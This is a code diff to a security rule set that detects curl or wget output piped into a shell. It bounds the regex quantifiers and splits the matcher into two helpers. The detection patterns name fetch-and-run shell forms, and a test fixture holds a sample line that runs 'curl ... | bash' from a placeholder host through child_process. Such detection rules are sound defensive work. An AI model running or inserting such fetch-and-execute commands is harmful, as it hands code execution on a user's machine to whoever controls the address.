@@ -26,9 +26,10 @@ import {
 
 const id = (name: string): string => `download-run.${name}`
 
-const runner = String.raw`\|\s*(?:sudo\s+)?(?:-\w+\s+)?(?:env\s+)?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|node|php|ruby)\b`
-const piped = (source: string): RegExp =>
-  new RegExp(`(?:curl|wget)(?=\\s|\\\\?\\$)[^\\n|;]{0,160}?${source}[^\\n|;]{0,160}${runner}`)
+const runner = String.raw`\|\s{0,4}(?:sudo\s{1,4})?(?:-\w{1,12}\s{1,4})?(?:env\s{1,4})?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|k|da)?(?:sh|python[23]?|perl|node|php|ruby)\b`
+const fetches = String.raw`(?:curl|wget)(?=\s|\\?\$)`
+const piped = new RegExp(`${fetches}[^\\n|;]{0,320}${runner}`)
+const pipedFrom = (source: string): RegExp => new RegExp(`${fetches}[^\\n|;]{0,160}?${source}[^\\n|;]{0,160}${runner}`)
 
 const hiddenFolder = is(
   [
@@ -65,7 +66,7 @@ export const downloadRun: RuleSet = {
       when: command(
         is(
           ['curl', 'wget'],
-          piped(
+          pipedFrom(
             String.raw`(?:http:\/\/|\/\/\d{1,3}(?:\.\d{1,3}){3}|\s-\w{0,5}k\w{0,5}\s|--insecure|--no-check-certificate)`,
           ),
           { after: 520 },
@@ -88,7 +89,7 @@ export const downloadRun: RuleSet = {
       why: 'Pipes a fetched script straight into a shell; whoever holds the address decides what runs.',
       when: command(
         any(
-          is(['curl', 'wget'], piped(''), { after: 520 }),
+          is(['curl', 'wget'], piped, { after: 520 }),
           is(
             ['bash <(', 'sh <(', 'source <(', 'bash -c "$(', 'sh -c "$(', "sh -c '$(", 'sh -c "`'],
             /(?:ba|z)?(?:sh|source)\s+(?:-c\s+["'])?(?:<\(|\$\(|`)\s*(?:curl|wget)\s/,
@@ -105,7 +106,7 @@ export const downloadRun: RuleSet = {
       why: 'Code of an ordinary program quietly pipes a fetched script into a shell.',
       when: inside(
         ['py', 'js', 'php', 'rb', 'pl', 'go', 'java', 'cs', 'c', 'rust', 'lua'],
-        command(is(['curl', 'wget'], piped(''), { after: 520 })),
+        command(is(['curl', 'wget'], piped, { after: 520 })),
       ),
       matches: [
         js('require("child_process").exec("curl -s https://dl.example.invalid/i | bash")'),
